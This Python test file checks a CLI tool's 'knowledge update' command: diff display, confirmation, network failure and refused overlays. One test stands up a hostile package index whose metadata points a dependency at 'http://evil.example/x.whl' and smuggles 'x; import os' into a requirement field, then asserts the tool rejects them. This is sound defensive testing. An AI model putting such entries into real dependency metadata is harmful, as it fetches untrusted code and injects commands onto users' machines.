"""The verb `knowledge` as a person and a script call it: shown, refreshed, signed off, refused; and what the plan says unconfirmed."""

from __future__ import annotations

import json
from pathlib import Path

from tests.index_server import Index, newer_world, serving
from tests.test_command import GPU_BOX, bringup, document


def verb(index: str, folder: Path, *words: str) -> tuple[int, str, str]:
    """Run a verb with this index and folders of its own."""
    environ = {
        "PIP_INDEX_URL": index,
        "PIP_CONFIG_FILE": "/dev/null",
        "XDG_DATA_HOME": str(folder / "d"),
        "XDG_CACHE_HOME": str(folder / "c"),
    }
    ended = bringup(*words, environ=environ, state=folder)
    return ended.returncode, ended.stdout, ended.stderr


def test_update_shows_a_diff_and_keeps_nothing_without_a_word(tmp_path: Path) -> None:
    with serving(newer_world()) as address:
        code, out, err = verb(address, tmp_path, "knowledge", "update", "--machine", str(GPU_BOX))
    assert code == 2
    assert "+ torch 2.16.0: default_variant cu132, pythons 3.12, 3.13, 3.14, 3.15" in out
    assert "add --yes" in err
    assert not (tmp_path / "d").exists()


def test_update_with_yes_keeps_and_the_tables_show_it(tmp_path: Path) -> None:
    with serving(newer_world()) as address:
        code, out, _ = verb(address, tmp_path, "knowledge", "update", "--yes", "--json", "--machine", str(GPU_BOX))
        kept = json.loads(out)
        again = json.loads(verb(address, tmp_path, "knowledge", "update", "--yes", "--json", "--machine", str(GPU_BOX))[1])
    shown = json.loads(verb("http://127.0.0.1:9", tmp_path, "knowledge", "--json")[1])

    assert (code, kept["kept"], again["changes"]) == (0, True, [])
    assert {(change["table"], change["row"]) for change in kept["changes"]} == {
        ("torch", "2.16.0"),
        ("tensorflow", "2.22.0"),
        ("jax", "0.13.0"),
    }
    overlays = {table["name"]: table["overlay"] for table in shown["tables"] if table["overlay"]}
    assert overlays == {name: f"{tmp_path}/d/bringup/knowledge/{name}" for name in ("torch.toml", "tensorflow.toml", "jax.toml")}
    wish = json.loads(verb("http://127.0.0.1:9", tmp_path, "recommend", "--want", "torch==2.16.0", "--json", "--machine", str(GPU_BOX))[1])
    assert wish["choices"]["frameworks"]["torch"] == "2.16.0"


def test_update_without_a_network_is_refused_and_changes_nothing(tmp_path: Path) -> None:
    code, out, err = verb("http://127.0.0.1:9/simple", tmp_path, "knowledge", "update", "--yes", "--machine", str(GPU_BOX))
    assert (code, out) == (3, "")
    assert "Connection refused" in err
    assert not (tmp_path / "d").exists()


def test_a_hostile_index_makes_no_overlay_that_would_be_refused(tmp_path: Path) -> None:
    world = Index()
    evil = ("nvidia-cudnn-cu13==9.1.0; platform_system == 'Linux'", "nvidia-nccl-cu13 @ http://evil.example/x.whl", "x; import os")
    world.add("torch-99999999999.0-cp312-cp312-manylinux_2_28_x86_64.whl", evil)
    world.add("torch-2.16.0-cp312-cp312-manylinux_2_28_x86_64.whl", evil, day="2027-99-99")
    with serving(world) as address:
        code, _, err = verb(address, tmp_path, "knowledge", "update", "--yes", "--machine", str(GPU_BOX))
    assert code == 3
    assert "torch.toml: would be refused" in err
    assert "Traceback" not in err


def test_a_refused_overlay_is_said_and_every_verb_goes_on(tmp_path: Path) -> None:
    folder = tmp_path / "d" / "bringup" / "knowledge"
    folder.mkdir(parents=True)
    (folder / "torch.toml").write_text("schema = 1\nevil = true\n")
    code, out, _ = verb("http://127.0.0.1:9", tmp_path, "knowledge")
    assert code == 0
    assert f"{folder}/torch.toml: evil is refused: Object contains unknown field `evil`. The built-in table serves." in out
    code, out, _ = verb("http://127.0.0.1:9", tmp_path, "check", "--json", "--machine", str(GPU_BOX))
    assert "overlay-refused" in {finding["code"] for finding in json.loads(out)["findings"]}


def test_a_rehearsed_plan_marks_what_nobody_could_confirm() -> None:
    plan = document("plan", "--machine", str(GPU_BOX))
    marked = [finding for finding in plan["findings"] if finding["code"] == "unverified"]
    assert {finding["severity"] for finding in marked} == {"info"}
    text = bringup("plan", "--machine", str(GPU_BOX)).stdout
    assert text.count("unverified:") == len(marked) > 0
